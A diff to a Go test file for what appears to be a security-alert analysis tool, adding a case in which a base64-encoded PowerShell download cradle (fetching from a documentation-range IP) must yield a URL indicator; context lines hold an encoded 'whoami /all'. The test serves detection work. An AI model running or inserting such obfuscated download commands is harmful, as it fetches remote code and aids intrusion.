@@ -323,6 +323,10 @@ func TestBehaviours(t *testing.T) {
 	if e := alert("powershell.exe -NoP -Enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=="); len(e.Decoded) != 1 || e.Decoded[0].Text != "whoami /all" {
 		t.Errorf("decoded %+v", e.Decoded)
 	}
+	hidden := alert("powershell.exe -Enc KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA4ADAALwBrAGIALgB0AHgAdAAnACkA")
+	if want := (casemate.Indicator{Type: casemate.IndicatorURL, Value: "http://192.0.2.80/kb.txt", Scope: casemate.ScopeDocumentation, Field: "decoded"}); !slices.Contains(hidden.Indicators, want) {
+		t.Errorf("indicators %+v, want %+v among them", hidden.Indicators, want)
+	}
 	if e := alert("cmd /c " + strings.Repeat("a", 1100)); len(e.Behaviours) > 0 || !slices.ContainsFunc(e.Notes, func(n string) bool { return strings.Contains(n, "1107 bytes") }) {
 		t.Errorf("behaviours %v, notes %q", e.Behaviours, e.Notes)
 	}
